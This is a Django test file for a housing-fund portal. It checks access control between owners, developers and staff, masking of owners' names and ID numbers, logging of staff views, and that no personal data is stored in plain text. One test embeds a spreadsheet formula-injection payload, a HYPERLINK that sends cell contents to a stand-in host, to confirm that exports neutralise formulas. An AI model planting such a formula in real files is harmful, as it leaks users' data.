"""Who owned a home, who owns it with others, who built it; and what is kept and logged of owners. (SEC-01, SEC-02)"""

import io
import logging
import zipfile
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse

from anju.core.actors import CLOCK, Actor
from anju.core.models import Look
from anju.fund import actions, queries
from anju.fund.models import Deposit
from anju.fund.tests.world import DEPARTMENT, WANG, ZHAO, an_account, signed_in
from anju.fund_notices import actions as fund_notices
from anju.fund_notices import jobs
from anju.fund_notices.models import NoticeFile
from anju.fund_notices.queries import result_rows
from anju.fund_notices.reading import result_file
from anju.fund_notices.tests.test_files import ROW, a_developer, a_file, a_site, received
from anju.homes.actions import OwnerTerms
from anju.people import actions as people
from anju.people.models import Organisation, Person
from anju.people.rules import OF_FUND
from anju.portals.owner.tests.things import acting, homes_in_every_state, the_platform_issues
from anju.tests.pages import Pages
from anju.tests.patterns import all_patterns
from anju.tests.source import OURS

pytestmark = [pytest.mark.django_db, pytest.mark.covers("SEC-01", "SEC-02")]
LIU = OwnerTerms("刘七", "110101199003072113")


@pytest.fixture(autouse=True)
def movable_clock(settings):
    settings.MOVABLE_CLOCK = True


def client_of(who: Any) -> Client:
    pages, plain = Pages(), Client()
    pages.sign_in_as(who)
    plain.cookies = pages.cookies
    return plain


def person_of(owner: OwnerTerms) -> Person:
    return Person.objects.get(pk=signed_in(owner).person_id)


OF_A_HOME = (
    "one_home",
    "movements",
    "interest",
    "proof",
    "due",
    "voluntary",
)


@pytest.mark.covers("IDN-20", "OWN-11")
def test_a_former_owner_has_no_page_of_the_home_and_a_co_owner_has_every_one():
    account = an_account(owners=(WANG, ZHAO))
    homes = homes_in_every_state(account)
    both = [client_of(person_of(one)) for one in (WANG, ZHAO)]
    pages = [reverse(f"owner:{name}", args=[account.dwelling_id]) for name in OF_A_HOME]
    assert {one.get(page).status_code for one in both for page in pages} == {200}
    assert both[1].get(reverse("owner:one_home", args=[homes.low.dwelling_id])).status_code == 404

    actions.sell_home(account_id=account.pk, owners=[ZHAO, LIU], by=DEPARTMENT)
    assert {both[0].get(page).status_code for page in pages} == {404}
    for page in ("due", "voluntary", "proof"):
        address = reverse(f"owner:{page}", args=[account.dwelling_id])
        assert both[0].post(address, {"channel": "alipay", "amount": "1"}).status_code == 404
    assert {both[1].get(page).status_code for page in pages} == {200}
    assert account.dwelling.address not in both[0].get(reverse("owner:homes")).content.decode()


@pytest.mark.covers("IDN-20")
@pytest.mark.parametrize(
    "claims",
    [OwnerTerms("王五", ZHAO.id_number), OwnerTerms("赵六", WANG.id_number)],
    ids=["the same name", "the same number"],
)
def test_an_identity_that_agrees_by_half_has_no_home(claims):
    account = an_account()
    half = client_of(person_of(claims))
    home = half.get(reverse("owner:home")).content.decode()
    assert "添加房屋" in home and reverse("owner:homes") not in home
    assert half.get(reverse("owner:one_home", args=[account.dwelling_id])).status_code == 404
    by = acting(person_of(claims))
    added = actions.add_home(
        way="contract",
        wanted=account.dwelling.contract_no,
        district="110105",
        phone="13800000001",
        by=by,
    )
    assert added.status == "waiting"
    assert not queries.homes_of(by).exists()


@pytest.mark.covers("OWN-31")
def test_of_anothers_home_that_was_looked_up_no_page_says_who_they_are():
    certificate = "京(2024)朝不动产权第0000001号"
    account = an_account(
        owners=(OwnerTerms("欧阳长江", LIU.id_number),), certificate_no=certificate
    )
    stranger = person_of(ZHAO)
    actions.look_up(mode="address", wanted=account.dwelling.address, by=acting(stranger))
    visitor, shown = client_of(stranger), ""
    for page in ("due", "voluntary", "movements"):
        response = visitor.get(reverse(f"owner:{page}", args=[account.dwelling_id]))
        assert response.status_code == 200
        shown += response.content.decode()
    for page in ("one_home", "interest", "proof"):
        assert visitor.get(reverse(f"owner:{page}", args=[account.dwelling_id])).status_code == 404
    assert "欧阳**" in shown or "欧***" in shown
    for secret in ("欧阳长江", LIU.id_number, LIU.id_number[-4:], certificate, "90.00"):
        assert secret not in shown
    assert account.dwelling.contract_no not in shown


# Developers


@pytest.fixture
def notices():
    """A developer with a file that is worked through; its upload and the deposit."""
    developer = a_developer()
    a_site(developer)
    received(developer, ROW, {**ROW, "室号": "302", "建筑面积": "九十"})
    for _ in range(4):
        jobs.work_on_files(0)
    return developer, NoticeFile.objects.get(), Deposit.objects.get()


def of_a_developer(upload: NoticeFile, deposit: Deposit) -> list[tuple[str, str]]:
    known = {"upload_id": upload.pk, "deposit_id": deposit.pk, "print_id": upload.prints.get().pk}
    return [
        (one.name, reverse(one.name, kwargs={name: known[name] for name in one.converters}))
        for one in all_patterns()
        if one.portal == "developer" and one.converters.keys() - {"vote_id"}
    ]


def test_another_developer_a_person_and_staff_find_no_page_of_it(notices):
    developer, upload, deposit = notices
    other = a_developer("别家", "91110108MA01ABCD5T")
    own = client_of(Organisation.objects.get(pk=developer.organisation_id))
    officer = Pages()
    officer.as_staff(*OF_FUND, username="quan.fund", name="全福")
    strangers = {
        "another": (client_of(Organisation.objects.get(pk=other.organisation_id)), {404}),
        "the owner": (client_of(person_of(WANG)), {404}),
        "staff": (officer, {302, 404}),
        "nobody": (Client(), {302}),
    }
    pages = of_a_developer(upload, deposit)
    assert len(pages) == 5
    for name, address in pages:
        assert own.get(address).status_code == 200, name
        for who, (stranger, refusals) in strangers.items():
            assert stranger.get(address).status_code in refusals, f"{who}: {name}"
            assert stranger.post(address).status_code in {*refusals, 405}, f"{who}: {name}"


def test_after_the_buyer_has_sold_the_developer_learns_nothing_of_who_came_next(notices):
    developer, upload, deposit = notices
    actions.sell_home(account_id=deposit.account_id, owners=[LIU], by=DEPARTMENT)
    asked = actions.demand_deposit(account_id=deposit.account_id, by=signed_in(LIU))
    assert asked.owner_name == "刘七"
    own = client_of(Organisation.objects.get(pk=developer.organisation_id))
    for page in ("deposit", "deposit_notice"):
        assert own.get(reverse(f"developer:{page}", args=[asked.pk])).status_code == 404
    assert "刘七" not in str(list(result_rows(upload)))


@pytest.mark.covers("SEC-03")
def test_the_result_file_holds_no_formula():
    developer = a_developer()
    a_site(developer)
    evil = '+HYPERLINK("http://x.example/"&A1)'
    upload = received(developer, {**ROW, "室号": evil[:20]}, {**ROW, "小区名称": evil})
    for _ in range(4):
        jobs.work_on_files(0)
    content = result_file(result_rows(upload))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in parts and b"<hyperlink" not in parts
    assert b"+HYPERLINK(" in parts


# What is kept, logged, and looked at


def test_what_staff_see_of_people_in_full_is_written_down(notices):
    _developer, _upload, deposit = notices
    desk = Pages()
    officer = desk.as_staff(*OF_FUND, username="quan.fund", name="全福")
    paper = files_of(desk, officer.pk)
    account = deposit.account_id
    full = [
        *paper,
        reverse("fund_desk:owners", args=[account]),
        reverse("fund_desk:deposit_notice", args=[deposit.pk]),
        reverse("fund_desk:enter_refund", args=[account]),
    ]
    for count, address in enumerate(full, 1):
        assert desk.get(address).status_code == 200
        last = Look.objects.order_by("pk").last()
        assert (Look.objects.count(), last.actor) == (count, "quan.fund"), address
        assert reverse(last.view_name, args=[last_id(address)]) == address
    masked = [
        reverse("fund_desk:home_detail", args=[account]),
        reverse("fund_desk:deposit", args=[deposit.pk]),
        reverse("fund_desk:homes") + "?words=望京",
        reverse("fund_desk:receipts"),
    ]
    for address in masked:
        shown = desk.get(address).content.decode()
        assert "王五" not in shown and ROW["业主证件号码"] not in shown, address
    assert Look.objects.count() == len(full)


def files_of(desk: Pages, officer_id: int) -> list[str]:
    """A file of the officer's own: its result, and its notices."""
    by = Actor("quan.fund", "centre", frozenset(OF_FUND), staff_id=officer_id)
    rows = a_file({**ROW, "室号": "401", "网签合同编号": "XF20240401"})
    upload = fund_notices.receive_file(name="二号楼.xlsx", content=rows, by=by)
    for _ in range(4):
        jobs.work_on_files(0)
    return [
        reverse("fund_desk:notice_result", args=[upload.pk]),
        reverse("fund_desk:notice_print", args=[upload.prints.get().pk]),
    ]


def last_id(address: str) -> int:
    return int([part for part in address.split("/") if part.isdigit()][-1])


def test_no_number_phone_or_card_of_an_owner_stands_plain_in_the_database_in_a_log_or_a_job(
    notices, caplog
):
    caplog.set_level(logging.DEBUG)
    homes = homes_in_every_state(an_account())
    by = signed_in(WANG)
    actions.request_receipt(deposit_id=homes.deposits[0].pk, by=by)
    the_platform_issues(homes.deposits[0])
    actions.add_home(way="contract", wanted="XF777", district="110105", phone="13912345678", by=by)
    developer = notices[0]
    received(developer, {**ROW, "业主名称": "赵六", "业主证件号码": ZHAO.id_number})
    jobs.work_on_files(0)
    people.record_person(
        name="王五", id_type="resident_id", id_number=WANG.id_number, phone="13800000001", by=CLOCK
    )
    secrets = (WANG.id_number, ZHAO.id_number, "13912345678")
    plain = dict(tables())
    assert {name for name, text in plain.items() for one in secrets if one in text} == set()
    assert [one for one in secrets if one in caplog.text] == []
    names = {name for name, text in plain.items() if name.startswith("fund") and "王五" in text}
    assert names == set()


def tables():
    with connection.cursor() as cursor:
        cursor.execute("SELECT to_regclass('procrastinate_jobs') IS NOT NULL")
        assert cursor.fetchone()[0]
        for name in [*(model._meta.db_table for model in OURS), "procrastinate_jobs"]:
            cursor.execute(f"SELECT string_agg(t::text, ' ') FROM {name} t")
            yield name, cursor.fetchone()[0] or ""
